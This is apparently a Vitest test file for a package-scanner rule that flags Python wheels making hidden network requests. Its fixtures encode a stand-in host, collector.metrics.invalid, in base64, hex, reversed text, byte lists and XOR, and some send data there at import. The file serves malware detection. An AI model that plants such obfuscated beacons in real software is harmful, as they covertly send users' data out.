import { expect, test } from 'vitest';
import { inspect, python, wheel } from '../../support/inspect.ts';

const HIDDEN = Buffer.from('https://collector.metrics.invalid/a').toString('base64');

test('a request to an address in base64 is malware at the line of the request', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import base64, requests',
      `address = base64.b64decode('${HIDDEN}').decode()`,
      'requests.get(address)',
    ),
  });

  expect(await inspect('hidden-address', file)).toMatchObject([
    {
      class: 'malware',
      score: 10,
      context: 'import',
      path: 'pkg/__init__.py',
      line: 3,
      hosts: ['collector.metrics.invalid'],
      decoded: 'https://collector.metrics.invalid/a',
    },
  ]);
});

test('an address that stands in the source is not hidden, whatever is done with it', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import base64, requests',
      "HOST = 'https://api.service.invalid'",
      "def ask(): return requests.get(HOST + '/v1', params={'q': base64.b64encode(b'all').decode()})",
    ),
  });

  expect(await inspect('hidden-address', file)).toEqual([]);
});

test('a decoded parameter of the caller is nobody’s hidden address', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import base64, requests',
      'def follow(link):',
      '    return requests.get(base64.b64decode(link).decode())',
    ),
  });

  expect(await inspect('hidden-address', file)).toEqual([]);
});

test('an address that a loop un-masks in a function of its own is found', async () => {
  const masked = Array.from(Buffer.from('https://collector.metrics.invalid/a'), (byte) => byte ^ 23).join(', ');
  const file = wheel({
    'pkg/__init__.py': python(
      'from urllib.request import urlopen as fetch',
      `T = [${masked}]`,
      'def clear(table):',
      "    return ''.join(chr(n ^ 23) for n in table)",
      'def go():',
      '    return fetch(clear(T))',
      'go()',
    ),
  });

  expect(await inspect('hidden-address', file)).toMatchObject([
    { class: 'malware', path: 'pkg/__init__.py', line: 6, hosts: ['collector.metrics.invalid'] },
  ]);
});

test.each([
  [
    'hexadecimal digits',
    `bytes.fromhex('${Buffer.from('https://collector.metrics.invalid/a').toString('hex')}').decode()`,
  ],
  ['its letters backwards', "'a/dilavni.scirtem.rotcelloc//:sptth'[::-1]"],
  ['numbers', `bytes([${[...Buffer.from('https://collector.metrics.invalid/a')].join(', ')}]).decode()`],
  [
    'a XOR of numbers',
    `bytes(c ^ 7 for c in base64.b64decode('${Buffer.from([...Buffer.from('https://collector.metrics.invalid/a')].map((c) => c ^ 7)).toString('base64')}')).decode()`,
  ],
])('a request to an address written as %s is malware', async (_how, expression) => {
  const file = wheel({ 'pkg/__init__.py': python('import base64, requests', `requests.get(${expression})`) });

  expect(await inspect('hidden-address', file)).toMatchObject([{ class: 'malware', score: 10, line: 2 }]);
});

test('keys and magic numbers in hexadecimal digits, and words read backwards, stay silent', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import hashlib, requests',
      "PRIME = int.from_bytes(bytes.fromhex('ffffffffffffffffc90fdaa22168c234'), 'big')",
      'MAGIC = bytes([0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A])',
      'def is_palindrome(word):',
      '    return word == word[::-1]',
      'def look_up(word):',
      "    return requests.get('https://words.example/' + word[::-1]).json()",
    ),
  });

  expect(await inspect('hidden-address', file)).toEqual([]);
});

const GREETING = Buffer.from('hello, is anybody there').toString('hex');

test.each([
  ['a datagram', `sock.sendto(bytes.fromhex('${GREETING}'), (place, 54321))`],
  ['a stream', `sock.connect((place, 54321)); sock.sendall(bytes.fromhex('${GREETING}'))`],
])('words in hexadecimal digits that %s says to an address of another module hide no address', async (_what, said) => {
  const file = wheel({
    'pkg/__init__.py': '',
    'pkg/talk.py': python('import socket', 'def greet(place):', '    sock = socket.socket()', `    ${said}`),
    'pkg/lamp.py': python('from pkg.talk import greet', 'def find():', "    greet('198.51.100.7')"),
  });

  expect(await inspect('hidden-address', file)).toEqual([]);
});

test.each([
  ['a datagram is sent to', 'socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(data, (PLACE, 53))'],
  ['is handed over after the method', "requests.request('POST', 'https://' + PLACE, data=data)"],
])('an address in base64 that %s is malware', async (_what, sent) => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import base64, requests, socket',
      `PLACE = base64.b64decode('${Buffer.from('collector.metrics.invalid').toString('base64')}').decode()`,
      'def tell(data):',
      `    ${sent}`,
    ),
  });

  expect(await inspect('hidden-address', file)).toMatchObject([
    { class: 'malware', score: 10, line: 4, hosts: ['collector.metrics.invalid'] },
  ]);
});
